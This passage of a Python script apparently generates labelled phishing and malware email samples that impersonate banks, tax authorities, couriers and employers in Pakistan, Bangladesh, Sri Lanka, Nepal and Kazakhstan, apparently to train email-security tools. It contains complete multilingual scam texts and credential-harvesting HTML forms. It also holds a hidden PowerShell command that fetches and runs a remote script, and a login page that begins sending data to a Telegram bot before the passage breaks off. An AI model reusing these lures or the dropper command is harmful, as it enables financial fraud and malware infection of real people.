If you have NOT authorized this transaction, immediately call the Meezan Bank Fraud Desk on +92 312 4876103 (24/7) so that the transfer can be reversed before settlement. Transfers not disputed within 2 hours cannot be recovered.

Please keep your card and mobile phone with you when you call.

Regards,
Digital Banking Fraud Prevention Unit
Meezan Bank Limited - The Premier Islamic Bank
"""))

# 3 JazzCash prize, Urdu, advance fee via WhatsApp
add(slug="pk-jazzcash-inaam-advance-fee", kind="phish", cat="phishing",
    desc="Advance-fee prize scam in Urdu: 'JazzCash annual lucky draw' winner must pay a Rs 3,500 registration/tax fee and contact an agent on WhatsApp; sent from an Outlook.com account.",
    dt=when(2025, 4, 2, 20, 5, 41, 300), frm=("JazzCash Inaam Program", "jazzcash.inaam.program@outlook.com"),
    to=("Ahmed Raza", "ahmed.raza1987@gmail.com"), mx="gmail",
    subject="مبارک ہو! آپ نے JazzCash انعامی اسکیم میں 5,00,000 روپے جیت لیے",
    **outlookcom_sender("jazzcash.inaam.program@outlook.com", 1),
    extra=["Accept-Language: en-US", "Content-Language: ur-PK", "X-MS-Has-Attach:"],
    body=outlook_body("jazz3", """السلام علیکم محترم صارف،

مبارک ہو! JazzCash کی سالانہ قرعہ اندازی 2025 میں آپ کا ای میل اور موبائل نمبر منتخب ہوا ہے۔
آپ نے 5,00,000 روپے نقد انعام اور ایک ہونڈا CG-125 موٹر سائیکل جیتی ہے۔

انعام نمبر: JC-2025-77814
قرعہ اندازی کی تاریخ: 31 مارچ 2025

انعام وصول کرنے کے لیے رجسٹریشن اور ود ہولڈنگ ٹیکس کی فیس 3,500 روپے جمع کروانا لازمی ہے۔ فیس جمع ہوتے ہی انعام کی رقم 24 گھنٹوں کے اندر آپ کے JazzCash اکاؤنٹ میں منتقل کر دی جائے گی۔

مزید معلومات اور فیس کی ادائیگی کے لیے ہمارے نمائندے جناب عمران صاحب سے صرف واٹس ایپ پر رابطہ کریں:
0341-7752190

نوٹ: یہ پیشکش صرف 48 گھنٹوں کے لیے ہے۔ یہ معلومات کسی اور کو نہ بتائیں ورنہ انعام منسوخ ہو سکتا ہے۔

JazzCash انعامی پروگرام
""", lang="ur-PK"))

# 4 FBR refund, direct spoof of fbr.gov.pk, HTML attachment with a form
_fbr_html = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>FBR IRIS - Refund Claim</title>
<style>body{{font-family:Arial;background:#eef3ee}}.box{{width:460px;margin:30px auto;background:#fff;border-top:6px solid #0b6b3a;padding:22px}}
label{{display:block;font-size:12px;margin-top:10px;color:#333}}input,select{{width:100%;padding:7px;border:1px solid #bbb}}
button{{margin-top:16px;background:#0b6b3a;color:#fff;border:0;padding:10px 20px}}</style></head>
<body><div class="box">
<img src="https://www.fbr.gov.pk/Images/fbr-logo.png" height="48" alt="FBR">
<h3>Federal Board of Revenue - IRIS Refund Module</h3>
<p style="font-size:13px">Refund Order No. IRIS/RF/2025/118734 &nbsp; Tax Year 2024<br>Amount approved: <b>Rs. 287,450</b></p>
<form method="POST" action="https://www.alnoor-marbles.com/wp-includes/fonts/iris/refund_submit.php">
<label>NTN / CNIC</label><input name="ntn" required>
<label>Registered mobile number</label><input name="mobile" required>
<label>IRIS password</label><input name="iris_pw" type="password" required>
<label>Bank</label><select name="bank"><option>HBL</option><option>Meezan Bank</option><option>UBL</option><option>MCB</option><option>Allied Bank</option><option>Bank Alfalah</option></select>
<label>IBAN</label><input name="iban" placeholder="PK00XXXX0000000000000000">
<label>Debit card number (for refund credit verification)</label><input name="card">
<label>Expiry (MM/YY)</label><input name="exp"><label>CVV</label><input name="cvv" maxlength="4">
<button type="submit">Submit Refund Claim</button>
</form>
<p style="font-size:11px;color:#777">Federal Board of Revenue, Constitution Avenue, Islamabad. Helpline 051-111-772-772</p>
</div></body></html>
"""
add(slug="pk-fbr-refund-html-form", kind="phish", cat="phishing",
    desc="Direct spoof of fbr.gov.pk (SPF softfail, DMARC fail) announcing an IRIS income-tax refund to a mill's accountant, with an HTML attachment whose form posts NTN, IRIS password, IBAN and card data to a compromised WordPress site.",
    dt=when(2025, 9, 23, 10, 31, 9, 300), frm=("FBR IRIS", "refunds@fbr.gov.pk"),
    to=("Accounts Indus Weave", "accounts@indusweave.com.pk"), mx="m365:apac",
    subject="Income Tax Refund Approved - Tax Year 2024 (Ref: IRIS/RF/2025/118734)",
    **spoof_sender("vps-88213.hostsailor-vm.net", "194.26.135.77", "noreply@irismail-notify.xyz"),
    extra=["X-Mailer: Microsoft Outlook 16.0"],
    body=mixed("fbr4", alt("fbr4", """<html><body style="font-family:Calibri,Arial;font-size:14px">
<p>Dear Taxpayer,</p>
<p>Your refund claim for Tax Year 2024 has been processed and approved by the Commissioner Inland Revenue under section 170 of the Income Tax Ordinance, 2001.</p>
<p><b>Refund amount: Rs. 287,450/-</b></p>
<p>To receive the amount in your bank account, open the attached Refund Claim Form, confirm your IRIS credentials and bank details and submit within 7 working days. Unclaimed refunds are adjusted against future liabilities.</p>
<p>Regards,<br>Refund Section<br>Federal Board of Revenue<br>Government of Pakistan</p>
</body></html>
""", style="other"), att("text/html", "IRIS_Refund_Claim_Form_118734.html", _fbr_html.encode()), style="other"))

# 5 Daraz reward, lookalike, Roman Urdu + English
_u = f"https://daraz-rewards-pk.shop/claim/?uid={tok('dz5', 12)}&c=1111&src=em"
add(slug="pk-daraz-1111-voucher", kind="phish", cat="phishing",
    desc="Daraz 11.11 'loyalty voucher' lure in Roman Urdu and English from lookalike daraz-rewards-pk.shop, leading to a survey page that asks for card details to pay 'delivery' of a prize.",
    dt=when(2024, 11, 9, 18, 22, 50, 300), frm=("Daraz Pakistan", "rewards@daraz-rewards-pk.shop"),
    to=("Bilal Hussain", "bilal.hussain92@gmail.com"), mx="gmail",
    subject="Mubarak ho! Aap ko Daraz 11.11 ka Rs. 25,000 voucher mila hai",
    **kit_sender("daraz-rewards-pk.shop", "91.215.85.209"),
    extra=["X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
           f"List-Unsubscribe: <https://daraz-rewards-pk.shop/u/{tok('dz5u', 10)}>"],
    body=alt("dz5", kit_html(
        "Daraz", "#F85606", "11.11 Biggest Sale - Loyal Customer Reward",
        ["Assalam-o-Alaikum Bilal,",
         "Daraz ki 11.11 sale se pehle hum apne loyal customers ko shukriya kehna chahte hain. Aap ko <b>Rs. 25,000</b> ka "
         "shopping voucher aur ek <b>Samsung Galaxy A55</b> jeetne ka mauqa mila hai.",
         "Bas 3 aasaan sawalon ka jawab dein aur apna reward claim karein. Offer sirf aaj raat 11:59 tak valid hai.",
         "Thank you for shopping with Daraz - Pakistan's #1 online marketplace."],
        ("Reward Claim Karein", _u),
        "Daraz.pk | Help Center | This email was sent to bilal.hussain92@gmail.com",
        logo_url="https://daraz-rewards-pk.shop/img/daraz-logo.png"), style="php"))

# 6 Bank-detail change from a typo-squatted supplier domain (rn -> m)
add(slug="pk-yarn-supplier-bank-change", kind="phish", cat="phishing",
    desc="BEC bank-detail change: a yarn supplier impersonated from typo-squat punjabyams.com.pk (rn->m, passing its own auth) asks a weaving mill to pay two outstanding invoices to a new Bank Alfalah IBAN 'due to audit'; no link.",
    dt=when(2025, 6, 17, 12, 3, 15, 300), frm=("Kamran Sheikh", "kamran.sheikh@punjabyams.com.pk"),
    to=("Usman Tariq", "usman.tariq@indusweave.com.pk"), mx="m365:apac",
    subject="Updated bank details - outstanding invoices PY-2025/1183 & 1191",
    relay=("mail.punjabyams.com.pk", "103.152.118.44"), inner=[("postfix-auth", dict(ip="39.45.118.20", user="kamran.sheikh@punjabyams.com.pk", by="mail.punjabyams.com.pk"))],
    auth=dict(spf="pass", dkim="pass", dmarc="none", d="punjabyams.com.pk", s="mail", mailfrom="kamran.sheikh@punjabyams.com.pk"),
    dkim=("punjabyams.com.pk", "mail"), style="outlook", mid_style="outlook-pop", mid_domain="punjabyams.com.pk",
    extra=["X-Mailer: Microsoft Outlook 16.0", "Thread-Index: AdvhQ2m8Xk1Lz0QpR6uY7c3bT9f2wA==", "Content-Language: en-us"],
    body=outlook_body("pkbec6", """Dear Usman Sahib,

Assalam-o-Alaikum. Hope you are well.

Please note that due to an ongoing internal audit of our Meezan Bank collection account, our management has shifted all receipts to our Bank Alfalah account with immediate effect. Kindly do not make any further payments to the old account.

Please process the outstanding payment for the following invoices to the account below:

PY-2025/1183 dated 28-May-2025 - PKR 2,615,000
PY-2025/1191 dated 04-Jun-2025 - PKR 2,255,500
Total: PKR 4,870,500

Account title: Punjab Yarns (Pvt) Ltd
Bank: Bank Alfalah Ltd, Gulberg III Branch, Lahore
IBAN: PK27ALFH0562001007493318

Kindly share the IBFT / RTGS advice once done so that our accounts team can reconcile. For any confirmation please email me directly as I am travelling to Karachi this week and will not be available on the office landline.

Best regards,

Kamran Sheikh
Manager Accounts & Finance
Punjab Yarns (Pvt) Ltd
32-B Industrial Estate, Kot Lakhpat, Lahore
Cell: +92 300 8412276
"""))

# 7 Pakistan Post, shortener to r2.dev
add(slug="pk-pakpost-ems-hold", kind="phish", cat="phishing",
    desc="Pakistan Post EMS 'address incomplete' lure from pakpost-tracking.com with a t.ly short link to an r2.dev page charging a Rs 150 re-delivery fee by card.",
    dt=when(2025, 3, 4, 15, 40, 12, 300), frm=("Pakistan Post", "ems@pakpost-tracking.com"),
    to=("", "sana.malik.khi@gmail.com"), mx="gmail",
    subject="Pakistan Post: Your EMS parcel EE118204736PK is on hold - address incomplete",
    **kit_sender("pakpost-tracking.com", "45.137.21.98"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("pp7", kit_html(
        "Pakistan Post", "#C8102E", "Delivery attempt unsuccessful",
        ["Dear Customer,",
         "Your EMS parcel <b>EE118204736PK</b> arrived at the GPO Karachi sorting centre on 03-03-2025 but could not be delivered "
         "because the house number / street in the address is incomplete.",
         "Please update your address and pay the re-delivery fee of <b>Rs. 150</b> within 48 hours. Otherwise the item will be "
         "returned to the sender.",
         "Tracking: https://ep.gov.pk/track.asp?id=EE118204736PK"],
        ("Update Address", "https://t.ly/pkEMS4k7"),
        "Pakistan Post Office Department, Ministry of Communications. Customer care UAN 111-111-117."), style="php"))

# ==========================================================================
# ATTACKS - Bangladesh
# ==========================================================================

# 8 bKash, Bengali, workers.dev
_u = f"https://bkash-kyc.rahim-dev24.workers.dev/verify?acc={tok('bk8', 14)}&lang=bn"
add(slug="bd-bkash-suspended-bn", kind="phish", cat="phishing",
    desc="bKash account-suspension lure in Bengali from lookalike bkash-care.info, button to a Cloudflare workers.dev page collecting wallet number, PIN and OTP.",
    dt=when(2025, 5, 20, 21, 12, 5, 360), frm=("bKash", "support@bkash-care.info"),
    to=("", "rafiq.islam.dhk@gmail.com"), mx="gmail",
    subject="আপনার bKash অ্যাকাউন্ট সাময়িকভাবে স্থগিত করা হয়েছে",
    **kit_sender("bkash-care.info", "193.149.176.31"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("bk8", kit_html(
        "bKash", "#E2136E", "অ্যাকাউন্ট যাচাই প্রয়োজন",
        ["প্রিয় গ্রাহক,",
         "আমাদের নিরাপত্তা ব্যবস্থা আপনার bKash অ্যাকাউন্টে একটি অস্বাভাবিক লেনদেন শনাক্ত করেছে। আপনার নিরাপত্তার জন্য "
         "অ্যাকাউন্টটি সাময়িকভাবে স্থগিত করা হয়েছে।",
         "২৪ ঘণ্টার মধ্যে নিচের বাটনে ক্লিক করে আপনার তথ্য যাচাই করুন, অন্যথায় অ্যাকাউন্টটি স্থায়ীভাবে বন্ধ হয়ে যাবে এবং "
         "ব্যালেন্স বাংলাদেশ ব্যাংকের নির্দেশনা অনুযায়ী সংরক্ষিত থাকবে।",
         "Dear customer, unusual activity was detected on your bKash account. Verify within 24 hours to avoid permanent closure."],
        ("এখনই যাচাই করুন", _u),
        "bKash Limited, SKS Tower, 7 VIP Road, Mohakhali, Dhaka-1206. হেল্পলাইন ১৬২৪৭", lang="bn"), style="php"))

# 9 DBBL NexusPay, compromised school mailbox, PDF with QR to r2.dev
_u = f"https://pub-{hexs('dbbl9', 32)}.r2.dev/nexuspay/reactivate.html?id={tok('dbbl9i', 10)}"
add(slug="bd-dbbl-nexuspay-pdf-qr", kind="phish", cat="phishing",
    desc="Quishing from a compromised school mailbox (passes SPF/DKIM/DMARC): a 'Dutch-Bangla Bank NexusPay re-activation' PDF whose QR code leads to an r2.dev credential page.",
    dt=when(2025, 7, 8, 13, 25, 48, 360), frm=("Accounts Office", "accounts@greenfieldschool.edu.bd"),
    to=("", "rafiq.islam.dhk@gmail.com"), mx="gmail",
    subject="Dutch-Bangla Bank: NexusPay account re-activation required / নেক্সাসপে পুনঃসক্রিয়করণ",
    **mailbox(("mail.greenfieldschool.edu.bd", "103.108.140.62"),
                  [("exim", dict(ip="103.135.252.17", by="mail.greenfieldschool.edu.bd", env="accounts@greenfieldschool.edu.bd"))],
                  "greenfieldschool.edu.bd", "default", "accounts@greenfieldschool.edu.bd", "kit", "kit"),
    extra=["User-Agent: Roundcube Webmail/1.6.6"],
    body=mixed("dbbl9", text("""Dear Customer,

Please find attached the notice from Dutch-Bangla Bank PLC regarding your NexusPay account.
Scan the QR code in the attached notice with your phone camera and complete the re-activation within 48 hours.

প্রিয় গ্রাহক, সংযুক্ত নোটিশের QR কোড স্ক্যান করে ৪৮ ঘণ্টার মধ্যে আপনার নেক্সাসপে অ্যাকাউন্ট পুনরায় সক্রিয় করুন।

Dutch-Bangla Bank PLC
Customer Service 16216
""", encoding="base64"),
        att("application/pdf", "DBBL_NexusPay_Notice.pdf", pdf_qr(
            ["DUTCH-BANGLA BANK PLC", "NexusPay Security Notice  Ref: DBBL/NXP/2025/07/4418", "",
             "Dear Customer,", "Due to the Bangladesh Bank e-KYC update, your NexusPay account has been",
             "temporarily restricted. Scan the QR code below with your smartphone to re-activate",
             "your account. Accounts not re-activated within 48 hours will be closed."],
            _u, "NexusPay Notice", ["Dutch-Bangla Bank PLC, Senakalyan Bhaban, Motijheel C/A, Dhaka-1000",
                                     "This is a system generated notice."])), style="php"))

# 10 NBR notice, ZIP with LNK (malware)
_lnk = files.lnk_shortcut(
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    "-w hidden -nop -ep bypass -c \"$d=$env:TEMP+'\\NBR_Notice_93.pdf';iwr 'https://nbr-gov.org/docs/notice93.pdf' -OutFile $d;"
    "start $d;iex (iwr 'https://nbr-gov.org/docs/s.ps1' -UseBasicParsing).Content\"")
add(slug="bd-nbr-notice-lnk-zip", kind="phish", cat="malware",
    desc="Malware dropper: 'NBR income-tax notice u/s 93' in Bengali from lookalike nbr-gov.org with a ZIP holding a .pdf.lnk that runs hidden PowerShell to fetch a decoy PDF and a second-stage script.",
    dt=when(2025, 10, 14, 10, 2, 33, 360), frm=("National Board of Revenue", "notice@nbr-gov.org"),
    to=("Nusrat Jahan", "nusrat.jahan@meghnaknit.com.bd"), mx="gmail",
    subject="আয়কর অধ্যাদেশের ৯৩ ধারায় নোটিশ - Income Tax Notice u/s 93 (Ref: NBR/LTU/2025/3317)",
    **kit_sender("nbr-gov.org", "80.76.49.130"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=mixed("nbr10", alt("nbr10", """<html><body style="font-family:Arial;font-size:14px">
<p>জনাব/জনাবা,</p>
<p>আয়কর অধ্যাদেশ, ১৯৮৪-এর ৯৩ ধারা অনুযায়ী আপনার প্রতিষ্ঠানের ২০২৩-২০২৪ করবর্ষের রিটার্ন পুনঃমূল্যায়নের জন্য নোটিশ জারি করা হয়েছে। সংযুক্ত নোটিশটি খুলে দেখুন এবং ১৫ কার্যদিবসের মধ্যে জবাব দাখিল করুন।</p>
<p>Please find attached the notice under section 93 for assessment year 2023-2024. Failure to respond within 15 working days will result in ex-parte assessment.</p>
<p>উপ-কর কমিশনার<br>বৃহৎ করদাতা ইউনিট (LTU)<br>জাতীয় রাজস্ব বোর্ড, ঢাকা</p>
</body></html>
""", style="php", enc_="base64"), att("application/zip", "NBR_Notice_93_2025.zip",
                                     files.zip_archive([("NBR_Notice_93_2025.pdf.lnk", _lnk)])), style="php"))

# 11 SharePoint share from a compromised buying-house tenant
_sp = (f"https://primesourcingbd-my.sharepoint.com/:b:/g/personal/mahmud_hasan_primesourcingbd_com/"
       f"E{tok('sp11', 45)}?e={tok('sp11e', 6)}")
add(slug="bd-sharepoint-po-compromised", kind="phish", cat="phishing",
    desc="Genuine SharePoint sharing notification sent from a compromised buying-house Microsoft 365 tenant (everything passes) offering a 'Spring 2026 purchase order' PDF that leads to a Microsoft credential page.",
    dt=when(2025, 8, 26, 16, 44, 2, 360), frm=("Mahmud Hasan", "no-reply@sharepointonline.com"),
    to=("Tanvir Ahmed", "tanvir.ahmed@meghnaknit.com.bd"), mx="gmail",
    subject="Mahmud Hasan shared \"PO_4471_Spring2026_Order_Sheet\" with you",
    **esp(("NAM11-BN8-obe.outbound.protection.outlook.com", "40.107.236.79", "mail-bn8nam11on2079.outbound.protection.outlook.com"),
          [("exchange", dict(src="SA1PR02MB8560.namprd02.prod.outlook.com", dst="BN8NAM11FT054.eop-nam11.prod.protection.outlook.com"))],
          "sharepointonline.com", "selector1", "no-reply@sharepointonline.com", mid_style="uuid", mid_domain="odspnotify"),
    extra=["X-MS-Exchange-Organization-AuthAs: Anonymous", "X-Sharing-Type: ShareLink"],
    body=alt("sp11", f"""<html><head><meta charset="utf-8"></head><body style="font-family:'Segoe UI',Tahoma,sans-serif;background:#f8f8f8">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="480" cellpadding="0" cellspacing="0" style="background:#ffffff;padding:24px">
<tr><td style="font-size:21px;color:#323130;padding-bottom:12px">Mahmud Hasan shared a file with you</td></tr>
<tr><td style="font-size:14px;color:#605e5c;padding-bottom:16px">Tanvir bhai, please check the final PO sheet for Spring 2026 with revised sizes and ex-factory dates. Need your confirmation by tomorrow.</td></tr>
<tr><td style="border:1px solid #e1dfdd;padding:14px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/pdf.png" width="32" height="32" alt=""> <span style="font-size:15px;color:#323130">PO_4471_Spring2026_Order_Sheet.pdf</span></td></tr>
<tr><td style="padding:18px 0"><a href="{_sp}" style="background:#0f6cbd;color:#ffffff;padding:9px 18px;text-decoration:none;font-size:14px">Open</a></td></tr>
<tr><td style="font-size:11px;color:#8a8886">This link will work for anyone. <a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#8a8886">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>
""", style="outlook"))

# ==========================================================================
# ATTACKS - Sri Lanka and Nepal
# ==========================================================================

# 12 Commercial Bank, Sinhala, lookalike
add(slug="lk-combank-digital-sinhala", kind="phish", cat="phishing",
    desc="Commercial Bank of Ceylon 'ComBank Digital suspended' lure in Sinhala and English from lookalike combank-digital.com, link to an OTP-harvesting login page on the same domain.",
    dt=when(2025, 1, 28, 8, 51, 30, 330), frm=("Commercial Bank", "alerts@combank-digital.com"),
    to=("Dilani Perera", "dilani.perera@gmail.com"), mx="gmail",
    subject="ඔබගේ ComBank Digital ගිණුම තාවකාලිකව අවහිර කර ඇත",
    **kit_sender("combank-digital.com", "185.196.8.52"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("cb12", kit_html(
        "Commercial Bank", "#003C71", "ComBank Digital - ආරක්ෂක දැනුම්දීම",
        ["හිතවත් පාරිභෝගිකය,",
         "ඔබගේ ComBank Digital ගිණුමට නව උපාංගයකින් සැක සහිත පිවිසුම් උත්සාහයක් හඳුනාගෙන ඇත. ඔබගේ ගිණුම ආරක්ෂා කිරීම සඳහා "
         "එය තාවකාලිකව අවහිර කර ඇත.",
         "කරුණාකර පැය 24ක් ඇතුළත පහත සබැඳිය හරහා ඔබගේ විස්තර තහවුරු කරන්න. එසේ නොකළහොත් ඔබගේ ComBank Digital සේවාව අත්හිටුවනු ලැබේ.",
         "Dear Customer, a suspicious sign-in was detected. Please confirm your details within 24 hours to restore access."],
        ("තහවුරු කරන්න / Verify", f"https://combank-digital.com/lk/verify?session={tok('cb12s', 24)}"),
        "Commercial Bank of Ceylon PLC, Commercial House, 21 Sir Razik Fareed Mawatha, Colombo 01. 24-hour call centre +94 11 2353353",
        lang="si"), style="php"))

# 13 Inland Revenue refund from a compromised business mailbox, link to compromised WordPress
add(slug="lk-ird-ramis-refund-wp", kind="phish", cat="phishing",
    desc="Sri Lanka Inland Revenue RAMIS tax-refund lure sent from a compromised hardware shop mailbox (auth passes), linking to a phishing kit inside a hacked Galle guest-house WordPress plugin folder.",
    dt=when(2025, 4, 9, 14, 17, 20, 330), frm=("Inland Revenue Department", "info@kandyhardware.lk"),
    to=("Dilani Perera", "dilani.perera@gmail.com"), mx="gmail",
    subject="IRD Sri Lanka - Tax Refund Notification Y/A 2023/2024 (RAMIS)",
    **mailbox(("cp-lk7.webhostlk.net", "103.247.49.18"),
                  [("exim", dict(ip="154.16.192.71", by="cp-lk7.webhostlk.net", env="info@kandyhardware.lk"))],
                  "kandyhardware.lk", "default", "info@kandyhardware.lk", "kit", "kit"),
    extra=["X-Mailer: Roundcube Webmail/1.6.9", "Reply-To: ramis.refunds@proton.me"],
    body=alt("ird13", kit_html(
        "Inland Revenue Department", "#7A1F1F", "Tax Refund Notification",
        ["Dear Taxpayer,",
         "After the annual calculation of your fiscal activity, we have determined that you are eligible to receive a tax refund "
         "of <b>LKR 48,750.00</b> for the Year of Assessment 2023/2024.",
         "Please submit the tax refund request through the RAMIS online portal and allow 3-5 working days for processing.",
         '<a href="https://www.villa-serenity-galle.com/wp-content/plugins/wp-ird/ramis/refund.php?tin=' + tok('ird13', 9, '0123456789') +
         '">https://eservices.ird.gov.lk/RAMIS/refund</a>'],
        ("Submit Refund Request", f"https://www.villa-serenity-galle.com/wp-content/plugins/wp-ird/ramis/refund.php?tin={tok('ird13', 9, '0123456789')}"),
        "Inland Revenue Department, Sri Chittampalam A. Gardiner Mawatha, Colombo 02. Call centre 1944."), style="php"))

# 14 Job-offer advance fee (Qatar), Gmail
add(slug="lk-qatar-job-visa-fee", kind="phish", cat="phishing",
    desc="Advance-fee recruitment scam: 'offer of employment' as facility supervisor in Doha sent from Gmail, demanding LKR 185,000 visa/medical processing fee to an agent's account and WhatsApp contact.",
    dt=when(2025, 11, 3, 9, 3, 44, 330), frm=("HR Dept - Al Noor Facilities Management", "alnoorfm.recruitment.qa@gmail.com"),
    to=("", "nuwan.jayasinghe88@gmail.com"), mx="gmail",
    subject="Offer of Employment - Facility Supervisor (Doha, Qatar) - Ref ANFM/SL/2025/214",
    **gmail_sender("alnoorfm.recruitment.qa@gmail.com", 2),
    extra=[],
    body=gmail_body("job14", """Dear Mr. Nuwan Jayasinghe,

With reference to your CV received through our Colombo agent, we are pleased to offer you the position of Facility Supervisor at Al Noor Facilities Management W.L.L, Doha, Qatar.

Salary: QAR 4,200 per month + free accommodation, transport and food allowance
Contract: 2 years (renewable), annual air ticket
Joining: within 30 days

Your employment visa has been pre-approved by the Ministry of Labour. To complete the process you are required to pay the visa stamping, medical and SLBFE registration charges of LKR 185,000 to our authorised agent in Sri Lanka:

Name: M.R.S. Fernando
Bank: People's Bank, Wattala
Account no: 228-2001-6651-9043

After payment please send the slip together with a copy of your passport on WhatsApp +94 76 418 3392. The charges are fully refundable with your first salary.

This offer is valid for 5 days only as we have other candidates.

Yours faithfully,
Ahmed Al-Kuwari
HR Manager
Al Noor Facilities Management W.L.L
P.O. Box 24187, Doha - Qatar
"""))

# 15 Nabil Bank KYC via Google Forms, from Gmail
_gf = f"https://docs.google.com/forms/d/e/1FAIpQLS{tok('gf15', 48)}/viewform?usp=sf_link"
add(slug="np-nabil-kyc-google-form", kind="phish", cat="phishing",
    desc="Nabil Bank 'NRB KYC update' in English and Nepali sent from a Gmail address, linking to a Google Forms questionnaire that asks for account number, mobile banking password and OTP.",
    dt=when(2025, 2, 25, 11, 36, 7, 345), frm=("Nabil Bank KYC Unit", "nabilbank.kycupdate@gmail.com"),
    to=("", "suman.shrestha.ktm@gmail.com"), mx="gmail",
    subject="Nabil Bank: KYC update required as per NRB directive / केवाईसी अद्यावधिक गर्नुहोस्",
    **gmail_sender("nabilbank.kycupdate@gmail.com", 3),
    extra=[],
    body=gmail_body("nab15", f"""Dear Valued Customer,

As per the Nepal Rastra Bank directive, all accounts must update their KYC information before Falgun 30. Please fill up the form below with correct details. Accounts without updated KYC will be frozen.

आदरणीय ग्राहकज्यू,
नेपाल राष्ट्र बैंकको निर्देशन अनुसार सबै खाताहरूको केवाईसी विवरण अद्यावधिक गर्नुपर्ने भएकोले तलको फारम भरी आफ्नो विवरण पेश गर्नुहोला। समयमै अद्यावधिक नगरेमा तपाईंको खाता रोक्का हुनेछ।

KYC form: {_gf}

Thank you,
Nabil Bank Limited
Customer Care 01-5970015
"""))

# 16 Ncell prize, Nepali, advance fee
add(slug="np-ncell-anniversary-prize", kind="phish", cat="phishing",
    desc="Advance-fee prize scam in Nepali: 'Ncell anniversary draw' winner of Rs 10 lakh must pay a processing/tax fee by eSewa and contact an agent on Viber/WhatsApp; sent from Outlook.com.",
    dt=when(2025, 6, 30, 19, 41, 57, 345), frm=("Ncell Upahar Yojana", "ncell.upahar2025@outlook.com"),
    to=("", "suman.shrestha.ktm@gmail.com"), mx="gmail",
    subject="बधाई छ! Ncell वार्षिकोत्सव उपहार योजनामा तपाईंले रु. १०,००,००० जित्नुभयो",
    **outlookcom_sender("ncell.upahar2025@outlook.com", 1),
    extra=["Accept-Language: en-US", "Content-Language: ne-NP", "X-MS-Has-Attach:"],
    body=outlook_body("ncell16", """नमस्कार,

बधाई छ! Ncell को वार्षिकोत्सव उपहार योजना २०८२ अन्तर्गत गरिएको गोलाप्रथामा तपाईंको नम्बर विजेताको रूपमा छनोट भएको छ। तपाईंले नगद रु. १०,००,००० (दस लाख) जित्नुभएको छ।

विजेता कोड: NC-2082-4471

पुरस्कार रकम तपाईंको बैंक खातामा पठाउन प्रशोधन शुल्क तथा कर बापत रु. ५,५०० eSewa मार्फत तलको नम्बरमा जम्मा गर्नुहोस्:
eSewa ID: 9807413326 (नाम: राजेश थापा)

भुक्तानी गरेपछि रसिदको स्क्रिनसट Viber वा WhatsApp मा +977 9807413326 मा पठाउनुहोस्। ४८ घण्टाभित्र सम्पर्क नगरेमा पुरस्कार अर्को विजेतालाई दिइनेछ।

Ncell Axiata Limited
उपहार योजना विभाग
""", lang="ne-NP"))

# ==========================================================================
# ATTACKS - Kazakhstan and Uzbekistan
# ==========================================================================

# 17 Kaspi, Russian, lookalike
add(slug="kz-kaspi-gold-blocked-ru", kind="phish", cat="phishing",
    desc="Kaspi.kz 'Kaspi Gold card blocked after sign-in from Shymkent' lure in Russian from lookalike kaspi-kz-secure.com, link to a fake Kaspi login collecting phone number, password and SMS code.",
    dt=when(2025, 3, 18, 10, 7, 41, 300), frm=("Kaspi.kz", "no-reply@kaspi-kz-secure.com"),
    to=("", "aigerim.nurlanovna@mail.ru"), mx="mailru",
    subject="Ваша карта Kaspi Gold временно заблокирована",
    **kit_sender("kaspi-kz-secure.com", "5.252.177.14"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("ksp17", kit_html(
        "Kaspi.kz", "#F14635", "Подтвердите вашу личность",
        ["Уважаемый клиент!",
         "Мы зафиксировали попытку входа в ваш аккаунт Kaspi.kz с нового устройства (Android, г. Шымкент, 18.03.2025 09:52). "
         "В целях безопасности операции по карте <b>Kaspi Gold</b> временно ограничены.",
         "Чтобы снять ограничение, подтвердите свою личность в течение 24 часов. После этого срока карта будет заблокирована, "
         "а для разблокировки потребуется визит в отделение.",
         "Если вход выполняли не вы, обязательно пройдите проверку по кнопке ниже."],
        ("Подтвердить личность", f"https://kaspi-kz-secure.com/auth/confirm?sid={tok('ksp17', 26)}"),
        "АО «Kaspi Bank». Лицензия АРРФР № 1.2.245/61 от 03.02.2020. Это автоматическое письмо, не отвечайте на него.",
        lang="ru"), style="php"))

# 18 Halyk Homebank, Kazakh, direct spoof, HTML attachment posting to a Telegram bot
_bot = f"{tok('hb18', 10, '0123456789')}:AA{tok('hb18t', 33)}"
_halyk_html = f"""<!DOCTYPE html>
<html lang="kk"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Homebank - Кіру</title>
<style>body{{margin:0;font-family:Arial;background:#eaf4ef}}.c{{max-width:380px;margin:40px auto;background:#fff;border-radius:10px;padding:26px}}
input{{width:100%;box-sizing:border-box;padding:11px;margin:7px 0;border:1px solid #c9d6cf;border-radius:6px}}
button{{width:100%;padding:12px;background:#00805f;color:#fff;border:0;border-radius:6px;font-size:15px}}</style></head>
<body><div class="c">
<img src="https://halykbank.kz/images/logo.svg" height="34" alt="Halyk">
<h3>Homebank жүйесіне кіру</h3><p style="font-size:13px;color:#555">Есептік жазбаңызды растау үшін деректеріңізді енгізіңіз.</p>
<form id="f"><input id="p" placeholder="Телефон нөмірі +7" required><input id="w" type="password" placeholder="Құпиясөз" required>
<input id="n" placeholder="Карта нөмірі" required><input id="e" placeholder="АА/ЖЖ"><input id="v" placeholder="CVV" maxlength="3">
<button type="submit">Растау</button></form>
<div id="s" style="display:none"><input id="o" placeholder="SMS-код"><button id="b">Жіберу</button></div>
</div>
<script>
var t="{_bot}",c="-100{tok('hb18c', 10, '0123456789')}";
